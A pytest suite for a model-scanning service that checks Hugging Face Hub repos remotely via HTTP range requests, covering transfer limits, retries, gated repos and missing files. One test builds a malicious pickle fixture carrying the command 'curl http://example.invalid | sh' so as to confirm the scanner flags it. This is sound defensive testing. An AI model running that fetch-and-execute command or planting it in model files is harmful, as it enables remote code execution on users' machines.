"""Remote scans through the real huggingface_hub client and HTTP range requests against the local Hub."""

from __future__ import annotations

import hashlib

import pytest

from inventory import services as inventory_services
from inventory.choices import Source
from inventory.models import ModelVersion
from scanning import services, tasks
from scanning.choices import ScanState, ScanVerdict
from scanning.models import Finding, ScanFileResult, ScanRun
from tests.factories import ModelFactory, ModelFileFactory, ModelVersionFactory
from tests.hubserver.repos import malicious_pickle_bytes, safetensors_bytes, tiny_bert_repo

pytestmark = pytest.mark.django_db

BIG = 48 * 1024 * 1024  # one big tensor: the scan must not download it


def big_safetensors(data_bytes: int = BIG) -> bytes:
    n = data_bytes // 4
    return safetensors_bytes({"lm_head.weight": ("F32", [n])})


def hub_version(server, repo_id: str, files: dict[str, bytes], **repo_options) -> ModelVersion:
    """Publish `files` on the test Hub and record the version as an import would (LFS sha256 as identity)."""
    commit = server.add_repo(repo_id, files, **repo_options)
    model = ModelFactory(source=Source.HUB, repo_id=repo_id)
    version = ModelVersionFactory(model=model, commit=commit, total_size=sum(map(len, files.values())))
    for path, data in files.items():
        ModelFileFactory(version=version, path=path, size=len(data), sha256=hashlib.sha256(data).hexdigest(), format="")
    return version


def test_remote_scan_of_a_big_safetensors_repo_transfers_under_one_percent(hub_env):
    repo = tiny_bert_repo("remote-test/big-bert")
    files = {**repo.files, "model.safetensors": big_safetensors()}
    hub_env.add_repo(repo.repo_id, files, card=repo.card)
    version, _ = inventory_services.import_from_hub(repo_id=repo.repo_id)
    run = services.scan_version_now(version.pk)
    assert run.state == ScanState.SUCCEEDED, run.error
    assert run.remote and run.verdict == ScanVerdict.SAFE
    assert run.bytes_total == version.total_size > BIG
    assert 0 < run.bytes_transferred < run.bytes_total / 100
    big = ScanFileResult.objects.get(scan_run=run, path="model.safetensors")
    assert big.format == "safetensors" and big.verdict == "safe"
    assert big.bytes_transferred < BIG / 100
    assert big.sha256 == hashlib.sha256(files["model.safetensors"]).hexdigest()  # the Hub's LFS sha256
    ranged = [r for r in hub_env.requests if r.range]
    assert ranged, "the scan must use HTTP range requests"
    version.refresh_from_db()
    assert version.scan_verdict == "safe"
    assert version.files.get(path="model.safetensors").format == "safetensors"


@pytest.mark.parametrize("workers", [1, 4])
def test_remote_malicious_pickle_is_caught(hub_env, settings, workers):
    settings.MODELGATE_SCAN_WORKERS = workers
    version = hub_version(
        hub_env,
        f"remote-test/evil-{workers}",
        {
            "pytorch_model.bin": malicious_pickle_bytes("curl http://example.invalid | sh"),
            "config.json": b'{"model_type": "custom"}',
        },
    )
    run = services.scan_version_now(version.pk)
    assert run.state == ScanState.SUCCEEDED and run.verdict == ScanVerdict.MALICIOUS
    finding = Finding.objects.get(scan_run=run, rule="pickle.global.denied")
    assert "os.system" in finding.evidence and finding.path == "pytorch_model.bin"
    assert run.bytes_transferred > 0


def test_transient_hub_error_fails_the_attempt_and_the_task_retries(hub_env, monkeypatch):
    version = hub_version(hub_env, "remote-test/flaky", {"model.safetensors": big_safetensors(1024 * 1024)})
    run = services._create_run(version=version, user=None, trigger="import")
    hub_env.fail_next("*/resolve/*", 503, times=1)

    class Retried(Exception):
        pass

    def fake_retry(*args, **kwargs):
        raise Retried(kwargs.get("countdown"))

    monkeypatch.setattr(tasks.scan_version, "retry", fake_retry)
    with pytest.raises(Retried):
        tasks.scan_version.run(run.pk)
    run.refresh_from_db()
    assert run.state == ScanState.QUEUED and "Retrying after" in run.error  # back in the queue, reason visible
    assert tasks.scan_version.run(run.pk) == "safe"  # the retry succeeds
    run.refresh_from_db()
    assert run.state == ScanState.SUCCEEDED and run.attempts == 2 and run.error == ""


def test_transient_errors_exhaust_into_a_visible_failure(hub_env):
    version = hub_version(hub_env, "remote-test/down", {"model.safetensors": safetensors_bytes()})
    run = services._create_run(version=version, user=None, trigger="import")
    hub_env.fail_next("*/resolve/*", 503, times=5)
    with pytest.raises(services.ScanFailed) as info:
        services.execute_scan(scan_run_id=run.pk)
    assert info.value.transient
    run.refresh_from_db()
    assert run.state == ScanState.FAILED and run.error_kind == "HubServerError" and run.error


def test_permanent_hub_error_fails_without_retry(hub_env, monkeypatch):
    version = hub_version(hub_env, "remote-test/gated", {"model.safetensors": safetensors_bytes()}, gated="manual")
    run = services._create_run(version=version, user=None, trigger="import")
    monkeypatch.setattr(tasks.scan_version, "retry", lambda *a, **k: pytest.fail("must not retry"))
    assert tasks.scan_version.run(run.pk) is None
    run.refresh_from_db()
    assert run.state == ScanState.FAILED and run.error_kind == "GatedRepo"
    assert "restricted" in run.error


def test_file_missing_on_the_hub_is_unscannable_not_a_failure(hub_env):
    version = hub_version(hub_env, "remote-test/missing", {"model.safetensors": safetensors_bytes()})
    ModelFileFactory(version=version, path="gone.bin", size=100, sha256="a" * 64)
    run = services.scan_version_now(version.pk)
    assert run.state == ScanState.SUCCEEDED and run.verdict == ScanVerdict.UNSCANNABLE
    finding = Finding.objects.get(scan_run=run, path="gone.bin")
    assert finding.rule == "remote.unavailable" and finding.category == "unscannable"


def test_remote_pytorch_zip_reads_only_the_pickle(hub_env):
    """A PyTorch zip with a big stored tensor: the central directory and data.pkl are enough."""
    import io
    import zipfile

    pkl = b"\x80\x02}q\x00."  # an empty dict
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_STORED) as zf:
        zf.writestr("archive/data.pkl", pkl)
        zf.writestr("archive/version", b"3\n")
        zf.writestr("archive/data/0", b"\0" * (24 * 1024 * 1024))
    data = buf.getvalue()
    version = hub_version(hub_env, "remote-test/torch-zip", {"pytorch_model.bin": data})
    run = services.scan_version_now(version.pk)
    assert run.state == ScanState.SUCCEEDED, run.error
    assert run.verdict == ScanVerdict.SAFE, list(Finding.objects.filter(scan_run=run).values("rule", "message"))
    assert run.bytes_transferred < len(data) / 100


def test_scan_run_row_counts_bytes_transferred(hub_env):
    version = hub_version(hub_env, "remote-test/count", {"model.safetensors": safetensors_bytes()})
    run = services.scan_version_now(version.pk)
    per_file = sum(ScanFileResult.objects.filter(scan_run=run).values_list("bytes_transferred", flat=True))
    assert run.bytes_transferred == per_file > 0
    assert ScanRun.objects.get(pk=run.pk).transfer_ratio is not None
